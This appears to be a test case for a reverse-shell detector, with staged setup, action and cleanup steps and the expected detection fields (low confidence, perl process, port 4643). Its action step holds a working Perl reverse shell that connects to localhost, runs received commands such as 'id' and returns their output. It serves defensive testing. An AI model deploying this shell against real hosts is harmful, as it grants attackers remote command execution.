# R41: the commands of a peer take their time, and so does the peer
# stage: equipped
# within: 20000 ms
# expect: reverse_shell_detected
#   detection.reason: ~3 times in a row, over an outbound
#   detection.confidence: low
#   reverse_shell.process_list.0.process_id: $perl
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4643

#: prepare
. lib/peers.sh
commander 4643 16 'sleep 1; id' 5
#: act
. lib/peers.sh
act
perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6);
connect(S, sockaddr_in(4643, inet_aton("127.0.0.1"))) or die; S->autoflush(1);
while (<S>) { chomp; sleep 2; system("($_) > /tmp/r41");
  open(F, "/tmp/r41"); print S <F>; close F }' < /dev/null > /dev/null 2>&1 & fact perl $!
await 'at $perl 3 socket:*'
#: clean
rm -f /tmp/r41
